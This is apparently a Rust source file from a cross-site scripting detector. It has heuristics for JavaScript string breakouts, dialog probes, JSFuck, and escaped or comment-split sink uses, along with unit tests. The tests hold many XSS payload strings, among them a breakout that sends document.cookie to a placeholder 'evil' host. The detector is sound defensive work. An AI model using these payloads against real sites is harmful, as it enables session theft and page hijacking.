//! The value as it would land inside a JavaScript string or expression: a quote (or `${`) that
//! ends the string, an operator or statement separator, then a sink use close by
//! (`'-alert(1)-'`, `";alert(1)//`, `'}};alert(1);//`, `${alert(1)}`). A quote alone, as in
//! O'Brien, is never enough. Also: a whole value that is itself a JS call to a telling sink
//! (`alert(1)`, `top["al"+"ert"](1)`), as it would run in an `eval` or handler sink.

use super::js_sink::{find_sinks, skip_gap, skip_gap_back, Sink, Strength};
use super::Hit;

/// The sink must start within this many bytes after the breakout.
const NEAR: usize = 48;
/// At most this many quotes are tried as breakout points.
const MAX_QUOTES: usize = 64;

/// Where a quote or `${` breakout ends and JS code would begin; `None` if the quote is
/// followed by text rather than an operator.
fn breakout_end(b: &[u8], q: usize) -> Option<usize> {
    let mut i = q + 1;
    // Closers after the string: `')`, `'}}`, `'];`
    while i < b.len() && i < q + 16 && (matches!(b[i], b')' | b']' | b'}') || b[i] == b' ') {
        i += 1;
    }
    let op = *b.get(i)?;
    if matches!(
        op,
        b';' | b','
            | b'+'
            | b'-'
            | b'*'
            | b'/'
            | b'%'
            | b'|'
            | b'&'
            | b'^'
            | b'<'
            | b'>'
            | b'='
            | b'?'
            | b':'
            | b'\n'
            | b'\r'
    ) {
        Some(i + 1)
    } else {
        None
    }
}

/// Functions payloads call where dialogs are blocked or filtered: `print()`, `open(url)`,
/// jQuery's `$.getScript(url)` and `$.globalEval(code)`. Code calls them everywhere, so they
/// are no sinks of their own; only the first thing after a string breakout tells.
const BREAKOUT_CALLS: [&str; 4] = ["print", "open", "getscript", "globaleval"];

/// The quotes (of the first [`MAX_QUOTES`]) that may close a string opened outside the value:
/// the 1st, 3rd, ... of their kind. Even ones close strings the value itself opened
/// (`f("a", x)`).
fn closing_quotes(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let mut seen = [0usize; 3];
    memchr::memchr3_iter(b'\'', b'"', b'`', b)
        .take(MAX_QUOTES)
        .filter(move |&q| {
            let kind = match b[q] {
                b'\'' => 0,
                b'"' => 1,
                _ => 2,
            };
            seen[kind] += 1;
            seen[kind] % 2 == 1
        })
}

/// A string breakout whose code starts by calling one of [`BREAKOUT_CALLS`], directly or as a
/// member (`'-print()-'`, `';top.print()//`, `'-$.getScript('//x')-'`).
pub fn breakout_call(text: &str) -> Option<Hit> {
    let b = text.as_bytes();
    memchr::memchr(b'(', b)?;
    for q in closing_quotes(b) {
        // A quote right after `(`, `[`, `=`, `,` or `:` opens a string of the value's own
        // code (`print("- open(x)")`); a breakout's quote ends text.
        if q > 0 && matches!(b[q - 1], b'(' | b'[' | b'=' | b',' | b':') {
            continue;
        }
        let Some(name) = breakout_end(b, q).and_then(|from| called_first(b, from)) else {
            continue;
        };
        let quote = b[q] as char;
        return Some(Hit::new(
            0.75,
            format!("JS string breakout ({quote} then operator) then {name}()"),
        ));
    }
    None
}

/// The one of [`BREAKOUT_CALLS`] called first at `from`: after spaces and `(`, a dotted path
/// (`top.print`, `jQuery.globalEval`) whose last name is one of them, then its `(`.
fn called_first(b: &[u8], from: usize) -> Option<&'static str> {
    let mut i = from;
    while i < b.len() && i < from + 8 && matches!(b[i], b' ' | b'(') {
        i += 1;
    }
    let mut name = i..i;
    for _ in 0..4 {
        let s = i;
        i += b[i..]
            .iter()
            .take(NEAR)
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
            .count();
        if i == s {
            return None;
        }
        name = s..i;
        if b.get(i) != Some(&b'.') {
            break;
        }
        i += 1;
    }
    let (k, _) = skip_gap(b, i);
    if b.get(k) != Some(&b'(') {
        return None;
    }
    BREAKOUT_CALLS
        .into_iter()
        .find(|n| n.as_bytes().eq_ignore_ascii_case(&b[name.clone()]))
}

fn sink_near(sinks: &[Sink], from: usize) -> Option<&Sink> {
    sinks.iter().find(|s| s.at >= from && s.at <= from + NEAR)
}

/// A string or template-literal breakout followed by a sink use.
pub fn breakout(text: &str, sinks: &[Sink]) -> Option<Hit> {
    if sinks.is_empty() {
        return None;
    }
    let b = text.as_bytes();
    for q in closing_quotes(b) {
        if let Some(from) = breakout_end(b, q) {
            if let Some(s) = sink_near(sinks, from) {
                let quote = b[q] as char;
                return Some(Hit::new(
                    0.9,
                    format!("JS string breakout ({quote} then operator) then {}", s.name),
                ));
            }
        }
    }
    for p in memchr::memmem::find_iter(b, b"${").take(MAX_QUOTES) {
        // The sink must be inside the `${ ... }`.
        let close = memchr::memchr(b'}', &b[p..]).map_or(b.len(), |c| p + c);
        if let Some(s) = sink_near(sinks, p + 2).filter(|s| s.at < close) {
            return Some(Hit::new(
                0.85,
                format!("template literal ${{...}} with {}", s.name),
            ));
        }
    }
    // A statement separator right before a telling call, as in a numeric JS context: `1;alert(1)`.
    for s in sinks
        .iter()
        .filter(|s| !s.spaced && s.strength == Strength::Strong)
    {
        let before = text[..s.at].trim_end();
        if before.ends_with(';') && before.len() > 1 {
            return Some(Hit::new(
                0.75,
                format!("statement separator then {}", s.name),
            ));
        }
    }
    None
}

/// A dialog probe called with a literal or a DOM value, anywhere in the text:
/// `alert(1)`, `prompt('xss')`, `confirm(document.cookie)`, ``alert`1` ``, `alert(/x/)`.
/// Prose puts a space before the parenthesis or words inside it. The evidence is built only
/// if the hit scores at least `beaten_by` (see [`Hit::unless_beaten`]).
pub fn probe_call(text: &str, sinks: &[Sink], beaten_by: f32) -> Option<Hit> {
    let b = text.as_bytes();
    for s in sinks
        .iter()
        .filter(|s| s.strength == Strength::Strong && !s.spaced)
    {
        let end = s.at + s.name.len();
        let Some(&open) = b.get(end) else { continue };
        if open == b'`' {
            return Some(Hit::unless_beaten(0.7, beaten_by, || {
                format!("tagged template call {}`...`", s.name)
            }));
        }
        if open != b'(' {
            continue;
        }
        let close = match memchr::memchr(b')', &b[end..]) {
            Some(c) if c <= 80 => end + c,
            _ => continue,
        };
        let arg = text.get(end + 1..close).unwrap_or("").trim();
        // `return confirm('Delete this post?')` on a delete button asks the user, probes
        // don't ask anything.
        let asks = s.name == "confirm"
            && text
                .get(..s.at)
                .is_some_and(|p| p.trim_end().ends_with("return"))
            && super::markup::is_confirm_message(arg);
        if !asks && is_probe_argument(arg) {
            return Some(Hit::unless_beaten(0.7, beaten_by, || {
                format!("dialog probe call {}({arg})", s.name)
            }));
        }
    }
    None
}

/// Empty, a number, a quoted string, a /regex/, or a dotted identifier path.
fn is_probe_argument(arg: &str) -> bool {
    let a = arg.as_bytes();
    if a.is_empty()
        || a.iter()
            .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b'-')
    {
        return true;
    }
    let (first, last) = (a[0], a[a.len() - 1]);
    if a.len() >= 2 && first == last && matches!(first, b'\'' | b'"' | b'`' | b'/') {
        return true;
    }
    // Typographic quotes in copied payloads.
    if arg.starts_with(['\u{2018}', '\u{201c}', '\u{2019}']) {
        return true;
    }
    a.iter()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'$'))
        && arg.contains('.')
        && find_sinks(arg)
            .iter()
            .any(|s| s.strength == Strength::Strong || s.name == "document" || s.name == "window")
}

/// A `/* */` comment wedged into a sink's use (`document/**/.cookie`, `alert/*x*/(1)`,
/// `top /*a*/ [name]`): the code is the same without it, so it is there only to hide the name
/// from filters. Code comments sit between statements, not inside a member access or a call.
pub fn comment_split(text: &str, sinks: &[Sink]) -> Option<Hit> {
    let b = text.as_bytes();
    // A gap that hides: it holds a comment, and no line break (chained code may put a comment
    // on its own line before `.then(...)`; an evasion keeps the access on one line).
    let hides = |from: usize, to: usize| {
        let gap = &b[from..to];
        memchr::memmem::find(gap, b"/*").is_some() && memchr::memchr(b'\n', gap).is_none()
    };
    sinks.iter().find_map(|s| {
        let end = s.at + s.name.len();
        // `name/*c*/(`, `name/*c*/.member`, `name/*c*/[`.
        let (after, _) = skip_gap(b, end);
        let mut hidden = hides(end, after.min(b.len()));
        // `obj/*c*/./*c*/name`: gaps on either side of the `.` or `[` that makes it a member.
        let (k, _) = skip_gap_back(b, s.at);
        if k > 0 && matches!(b[k - 1], b'.' | b'[') {
            let (j, _) = skip_gap_back(b, k - 1);
            hidden |=
                (hides(k, s.at) || hides(j, k - 1)) && memchr::memchr(b'\n', &b[j..s.at]).is_none();
        }
        hidden.then(|| Hit::new(0.7, format!("JS comment hiding the use of {}", s.name)))
    })
}

/// A tagged template whose tag is a function's own `call`/`apply`/`bind`
/// (``Reflect.apply.call`${f}${obj}${[arg]}` ``): calling an arbitrary function without
/// parentheses, which no ordinary template tag does.
pub fn template_call(text: &str) -> Option<Hit> {
    let b = text.as_bytes();
    memchr::memchr_iter(b'`', b).take(MAX_QUOTES).find_map(|q| {
        let name = ["call", "apply", "bind"].into_iter().find(|n| {
            q > n.len() && b[..q].ends_with(n.as_bytes()) && b[q - n.len() - 1] == b'.'
        })?;
        Some(Hit::new(
            0.7,
            format!("tagged template on .{name} (a call without parentheses)"),
        ))
    })
}

/// Netscape's JavaScript entity `&{code};`, evaluated where an attribute value holds it.
pub fn js_entity(text: &str) -> Option<Hit> {
    let b = text.as_bytes();
    let mut read_to = 0;
    for p in memchr::memmem::find_iter(b, b"&{").take(MAX_QUOTES) {
        // An `&{` inside the body just read shares its close: its body was read with it
        // (64 of them before a text with no `}` read it 64 times).
        if p < read_to {
            continue;
        }
        let close = memchr::memchr(b'}', &b[p..]).map_or(b.len(), |c| p + c);
        read_to = close;
        let body = text.get(p + 2..close).unwrap_or("");
        if let Some(s) = find_sinks(body).first() {
            return Some(Hit::new(0.8, format!("JS entity &{{...}} with {}", s.name)));
        }
    }
    None
}

/// JSFuck-style code: JS built only from `[]()!+`, recognized by the density of `![]`/`[]`.
pub fn jsfuck(text: &str) -> Option<Hit> {
    let b = text.as_bytes();
    let bangs = memchr::memmem::find_iter(b, b"![]").count();
    let pairs = memchr::memmem::find_iter(b, b"[]").count();
    let symbolic = b
        .iter()
        .filter(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '))
        .count();
    if bangs >= 3 && pairs >= 6 && symbolic * 10 >= b.len() * 9 {
        return Some(Hit::new(0.8, "JSFuck-encoded JavaScript"));
    }
    jsfuck_fragment(text)
}

/// A whole value written only in JSFuck's alphabet that coerces an array with two or more
/// negations (`+!![]`, `(![]+[])[+!+[]]`): a piece of JSFuck code. `+` may arrive as a space
/// when a form was decoded. Markdown's `![](url)` has one `!` and letters.
fn jsfuck_fragment(text: &str) -> Option<Hit> {
    let t = text.trim();
    let b = t.as_bytes();
    let alphabet = b
        .iter()
        .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '));
    let bangs = b.iter().filter(|&&c| c == b'!').count();
    (alphabet
        && b.len() >= 4
        && bangs >= 2
        && memchr::memmem::find(b, b"[]").is_some()
        && memchr::memmem::find(b, b"![]").is_some())
    .then(|| Hit::new(0.7, "JSFuck fragment (arrays coerced by negation)"))
}

/// A global object indexed by a string spelled with JS escapes (`self["\x24"]`,
/// `top['\u0061lert']`): the name is hidden from filters, which only an evasion does.
pub fn escaped_index(text: &str, sinks: &[Sink]) -> Option<Hit> {
    let b = text.as_bytes();
    sinks
        .iter()
        .filter(|s| {
            matches!(
                s.name,
                "self" | "top" | "window" | "parent" | "frames" | "globalthis" | "document"
            )
        })
        .find_map(|s| {
            let (i, _) = skip_gap(b, s.at + s.name.len());
            if b.get(i) != Some(&b'[') {
                return None;
            }
            let (j, _) = skip_gap(b, i + 1);
            let q = *b.get(j)?;
            if !matches!(q, b'"' | b'\'' | b'`') {
                return None;
            }
            let body = &b[j + 1..];
            let end = body.iter().take(64).position(|&c| c == q)?;
            let lit = &body[..end];
            let escaped = lit
                .windows(2)
                .any(|w| w[0] == b'\\' && matches!(w[1], b'x' | b'u' | b'0'..=b'7'));
            escaped.then(|| Hit::new(0.7, format!("{} indexed by an escaped name", s.name)))
        })
}

/// A whole value that is one JS statement acting on the page: `location` assigned a quoted
/// URL (`location="//e.example";`), a document query's content written
/// (`document.querySelector("p").textContent="x"`), a timer given code and a delay
/// (`setInterval(code, 1)`), or the Function constructor (`new Function(...)`).
pub fn page_statement(text: &str, sinks: &[Sink]) -> Option<Hit> {
    let t = text.trim();
    if t.len() > 200 || sinks.is_empty() {
        return None;
    }
    // Every statement below starts with one of these letters, or holds `new function(`:
    // without them, no lower-cased copy is needed.
    let b = t.as_bytes();
    let lead = matches!(
        b.first().map(u8::to_ascii_lowercase),
        Some(b'l' | b'w' | b'd' | b't' | b's')
    );
    let new_fn = || {
        memchr::memchr_iter(b'(', b)
            .any(|p| p >= 12 && b[p - 12..p].eq_ignore_ascii_case(b"new function"))
    };
    if !lead && !new_fn() {
        return None;
    }
    let lower = t.to_ascii_lowercase();
    let l = lower.trim_end_matches([';', ' ']);
    if let Some(rest) = [
        "location",
        "window.location",
        "document.location",
        "top.location",
        "self.location",
    ]
    .iter()
    .find_map(|p| l.strip_prefix(p))
    {
        let rest = rest.strip_prefix(".href").unwrap_or(rest).trim_start();
        if let Some(v) = rest.strip_prefix('=').map(str::trim_start) {
            if v.len() >= 3 && quoted_literal(v) {
                return Some(Hit::new(0.6, "value assigns location a URL"));
            }
        }
    }
    if l.starts_with("document.") && !has_top_level_space_outside_assign(l) {
        for prop in [".textcontent", ".innerhtml", ".outerhtml", ".innertext"] {
            if let Some(p) = l.rfind(prop) {
                let rest = l[p + prop.len()..].trim_start();
                if rest
                    .strip_prefix('=')
                    .is_some_and(|v| quoted_literal(v.trim_start()))
                {
                    return Some(Hit::new(
                        0.6,
                        format!("value writes {} of a document node", &prop[1..]),
                    ));
                }
            }
        }
    }
    for timer in ["settimeout(", "setinterval("] {
        if let Some(args) = l.strip_prefix(timer).and_then(|r| r.strip_suffix(')')) {
            let delay = args.rsplit_once(',').map(|(_, d)| d.trim());
            if delay.is_some_and(|d| !d.is_empty() && d.bytes().all(|c| c.is_ascii_digit())) {
                return Some(Hit::new(
                    0.6,
                    format!("value is a timer call {timer}code, delay)"),
                ));
            }
        }
    }
    if let Some(p) = memchr::memmem::find(lower.as_bytes(), b"new function(") {
        let before = lower[..p].trim_end();
        if before.is_empty() || before.ends_with(['=', '(', ',', ';']) {
            return Some(Hit::new(0.6, "Function constructor called with new"));
        }
    }
    None
}

/// A quoted string literal and nothing after it.
fn quoted_literal(v: &str) -> bool {
    let b = v.as_bytes();
    b.len() >= 2
        && matches!(b[0], b'"' | b'\'' | b'`')
        && b[b.len() - 1] == b[0]
        && !v[1..v.len() - 1].contains(b[0] as char)
}

/// A space at depth 0 outside strings other than around the one `=` of an assignment
/// (`a.b = "x"`): a sentence that starts with "document." rather than a statement.
fn has_top_level_space_outside_assign(t: &str) -> bool {
    let Some(eq) = t.rfind('=') else {
        return has_prose_space(t);
    };
    has_prose_space(t[..eq].trim_end())
}

/// A whole value that is a JS expression using a telling sink: the sink is the first thing in
/// the value after JS punctuation, identifiers and `=`/`.` (e.g. `a=alert,a(1)`,
/// `window["alert"](1)`, `(alert)(1)`), and it is a call/index, not prose like "Confirm (2)".
pub fn bare_expression(text: &str, sinks: &[Sink]) -> Option<Hit> {
    let lead = text.len() - text.trim_start().len();
    let t = text.trim();
    if t.len() > 512 {
        return None;
    }
    let first = sinks.first()?;
    let at = first.at.checked_sub(lead)?;
    let head = &t[..at];
    let head_is_js = head.bytes().all(|c| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'(' | b')'
                    | b'['
                    | b']'
                    | b'"'
                    | b'\''
                    | b'!'
                    | b'+'
                    | b'-'
                    | b'~'
                    | b';'
                    | b'='
                    | b'.'
                    | b','
                    | b'_'
                    | b'$'
                    | b' '
            )
    }) && !head.contains(' ');
    if !head_is_js {
        return None;
    }
    if let Some(strong) = sinks
        .iter()
        .find(|s| s.strength == Strength::Strong && !s.spaced)
    {
        return Some(Hit::new(
            0.7,
            format!("value is a JS expression using {}", strong.name),
        ));
    }
    // Only medium sinks: the value must be code from start to end (it begins with the sink,
    // ends like a statement or call, and has no spaces outside parentheses), and use two
    // sinks, e.g. `setTimeout(location.search.slice(1));`.
    let code_end = t.ends_with([')', ';', '`', ']']);
    if at == 0 && code_end && t.len() <= 160 && sinks.len() >= 2 && !has_prose_space(t) {
        return Some(Hit::new(
            0.6,
            format!(
                "value is JS code using {} and {}",
                first.name, sinks[1].name
            ),
        ));
    }
    None
}

/// A space at parenthesis depth 0 outside strings: prose, not an expression.
fn has_prose_space(t: &str) -> bool {
    let mut depth = 0i32;
    let mut quote: Option<u8> = None;
    for &c in t.as_bytes() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'' | b'`') => quote = Some(c),
            (None, b'(' | b'[' | b'{') => depth += 1,
            (None, b')' | b']' | b'}') => depth -= 1,
            (None, b' ') if depth <= 0 => return true,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags(t: &str) -> bool {
        breakout(t, &find_sinks(t)).is_some_and(|h| h.score >= 0.5)
    }

    #[test]
    fn js_entities_are_read_once_per_close() {
        assert!(js_entity("&{alert(1)};").is_some());
        // The second `&{` lies in the first body, which holds its sink.
        assert!(js_entity("&{x &{alert(1)}").is_some());
        // A later `&{` after the close is read on its own.
        assert!(js_entity("&{x} &{eval(name)}").is_some());
        assert!(js_entity(&format!("{}{}", "&{".repeat(64), "word ".repeat(100))).is_none());
    }

    #[test]
    fn string_breakouts_then_call() {
        for t in [
            "'-alert(1)-'",
            "\";alert(1)//",
            "'}};alert(1);//",
            "'); alert('XSS",
            "\";document.location='//evil/'+document.cookie;//",
            "x' + eval(atob('YWxlcnQoMSk=')) + '",
            "`${alert(1)}`",
            "48e71;alert(1)//503466e3",
        ] {
            assert!(flags(t), "{t}");
        }
    }

    #[test]
    fn breakouts_calling_functions_that_stand_in_for_alert() {
        for t in [
            "'-print()-'",
            "';top.print()//",
            "'-open('//x.example')-'",
            "'-$.getScript('//x.example')-'",
            "\";jQuery.globalEval(name)//",
        ] {
            assert!(breakout_call(t).is_some(), "{t}");
        }
        // Code of the value's own: strings it opens, calls not right after a breakout.
        for t in [
            "print('a' + b); open(f)",
            "print(\"- open(x)\")",
            "x = '%s'; print(x)",
            "f = open('a.txt', 'r')",
            "print(','.join(names)); print(n)",
            "it's - printed (twice)",
        ] {
            assert!(breakout_call(t).is_none(), "{t}");
        }
    }

    #[test]
    fn quotes_without_breakout_pass() {
        for t in [
            "O'Brien",
            "it's 'fine' - really",
            "she said \"hello\"; then left",
            "\"alert\" is a word",
            "Tom's alert level",
            "'quoted' text and confirm(ation)",
            "the ${price} placeholder",
        ] {
            assert!(!flags(t), "{t}");
        }
    }

    #[test]
    fn probes_and_jsfuck() {
        for t in [
            "?playerready=alert(document.cookie)",
            "}alert(/INJECTX/);{//",
            "x alert(1) y",
            "prompt`1`",
            "confirm('xss')",
        ] {
            assert!(probe_call(t, &find_sinks(t), 0.0).is_some(), "{t}");
        }
        for t in [
            "please confirm (yes)",
            "alert(the admin about it)",
            "prompt(user for a name)",
            "confirm(order)",
        ] {
            assert!(probe_call(t, &find_sinks(t), 0.0).is_none(), "{t}");
        }
        assert!(
            jsfuck("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]").is_some()
        );
        assert!(jsfuck("a [] b [] c").is_none());
        for t in ["+!![]", " !![]", "(![]+[])[+!+[]]", "(![] [])[ ! []]"] {
            assert!(jsfuck(t).is_some(), "{t}");
        }
        for t in ["![](img.png)", "![]()", "!![", "[] []", "x = !![]", "!!"] {
            assert!(jsfuck(t).is_none(), "{t}");
        }
    }

    #[test]
    fn comments_inside_sink_uses() {
        for t in [
            "document/**/.cookie",
            "document /* x */ . domain",
            "window.location/*y*/='//e.example'",
            "x.innerHTML/**/=1",
            "opener . /*z*/ cookie",
        ] {
            assert!(comment_split(t, &find_sinks(t)).is_some(), "{t}");
        }
        for t in [
            "/* init */ document.title = 'x';",
            "document.cookie; /* read it */",
            "alert(/* message */ msg)",
            "a /* b */ c",
            "document\n  /* the form */\n  .querySelector('form')",
        ] {
            assert!(comment_split(t, &find_sinks(t)).is_none(), "{t}");
        }
    }

    #[test]
    fn escaped_global_indexes() {
        for t in [
            "self[\"\\x24\"]",
            "top['\\u0061lert'](1)",
            "window [ \"\\141\" ]",
        ] {
            assert!(escaped_index(t, &find_sinks(t)).is_some(), "{t}");
        }
        for t in [
            "self[\"items\"]",
            "self[\"a\\nb\"]",
            "top['x']",
            "frames[0]",
        ] {
            assert!(escaped_index(t, &find_sinks(t)).is_none(), "{t}");
        }
    }

    #[test]
    fn page_statements() {
        for t in [
            "location=\"http://e.example\";",
            "window.location.href = '//e.example'",
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "document.body.appendChild(document.createElement(\"h1\")).textContent = \"XSS\"",
            "setInterval(code, 1)",
            "setTimeout(run,0);",
            "new Function()",
            "x=new Function('a','return a')",
        ] {
            assert!(page_statement(t, &find_sinks(t)).is_some(), "{t}");
        }
        for t in [
            "location=Paris",
            "location = \"home\" is where we are",
            "document.title is shown, then the textContent = \"x\"",
            "setTimeout(function() { poll(); }, 500) runs later",
            "setTimeout(done)",
            "we need a new function() here",
            "the document.body.innerHTML = unsafe",
        ] {
            assert!(page_statement(t, &find_sinks(t)).is_none(), "{t}");
        }
    }

    #[test]
    fn templates_as_calls() {
        assert!(template_call("Reflect.apply.call`${f}${o}${[1]}`").is_some());
        assert!(template_call("x.sort.call``").is_some());
        assert!(template_call("html`<p>${name}</p>`").is_none());
        assert!(template_call("sql`select ${a}` and a call`x`").is_none());
    }

    #[test]
    fn bare_expressions() {
        for t in [
            "alert(1)",
            "prompt()",
            "(alert)(1)",
            "a=alert,a(1)",
            "[1].find(alert)",
            "window['alert'](document.cookie)",
        ] {
            assert!(bare_expression(t, &find_sinks(t)).is_some(), "{t}");
        }
        for t in [
            "setTimeout(location.search.slice(1));",
            "document.body.appendChild(document.createElement(\"h1\"))",
        ] {
            assert!(bare_expression(t, &find_sinks(t)).is_some(), "{t}");
        }
        for t in [
            "Confirm (2)",
            "alert: server down",
            "fetch(url).then(r => r.json())",
            "document.getElementById('x')",
            "please confirm(yes)",
            "eval('2+2') is unsafe, says the doc",
            "x = a + b",
        ] {
            assert!(bare_expression(t, &find_sinks(t)).is_none(), "{t}");
        }
    }
}
